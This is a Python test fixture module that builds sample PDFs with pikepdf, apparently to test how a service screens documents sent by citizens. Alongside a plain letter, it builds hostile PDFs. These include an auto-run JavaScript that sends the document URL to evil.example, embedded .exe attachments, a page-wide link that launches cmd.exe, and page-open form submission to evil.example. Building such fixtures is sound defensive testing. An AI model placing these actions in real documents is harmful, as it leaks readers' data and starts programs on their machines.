"""PDF documents for the tests: an ordinary one, and the hostile kinds a citizen could send."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def pdf_document(*, pages: int = 1) -> pikepdf.Pdf:
    """A plain document: each page says "Page <n> of the citizen's letter" in Helvetica."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(1, pages + 1):
        pdf.add_blank_page()
        page = pdf.pages[-1]
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(
            f"BT /F1 18 Tf 72 720 Td (Page {number} of the citizen's letter) Tj ET".encode()
        )
    return pdf


def pdf_bytes(pdf: pikepdf.Pdf) -> bytes:
    buffer = io.BytesIO()
    # Without object streams every dictionary stays readable in the bytes the tests search.
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return buffer.getvalue()


def javascript(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def pdf_with_open_action_script() -> bytes:
    pdf = pdf_document()
    script = pdf.make_indirect(javascript("app.launchURL('https://evil.example/'+this.URL)"))
    pdf.Root.OpenAction = script
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    return pdf_bytes(pdf)


def pdf_with_embedded_file() -> bytes:
    pdf = pdf_document()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ-embedded-program")
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ-annotated-program", filename="readme.exe")
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=Array([10, 10, 30, 30]),
                    FS=spec.obj,
                )
            )
        ]
    )
    return pdf_bytes(pdf)


def pdf_with_launch_link() -> bytes:
    """A page-wide link that starts a program, an honest link to page 2, a form reset link."""
    pdf = pdf_document(pages=2)
    launch = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 612, 792]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
    )
    to_page_two = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 700, 300, 730]),
        A=Dictionary(
            S=Name.GoTo,
            D=Array([pdf.pages[1].obj, Name.Fit]),
            Next=javascript("app.alert('chained')"),
        ),
    )
    reset = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 600, 300, 630]),
        A=Dictionary(S=Name.ResetForm),
    )
    pdf.pages[0].obj.Annots = Array(
        [pdf.make_indirect(launch), pdf.make_indirect(to_page_two), pdf.make_indirect(reset)]
    )
    return pdf_bytes(pdf)


def pdf_with_page_actions() -> bytes:
    pdf = pdf_document()
    pdf.pages[0].obj.AA = Dictionary(
        O=javascript("this.submitForm('https://evil.example/')"),
        C=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
    )
    return pdf_bytes(pdf)
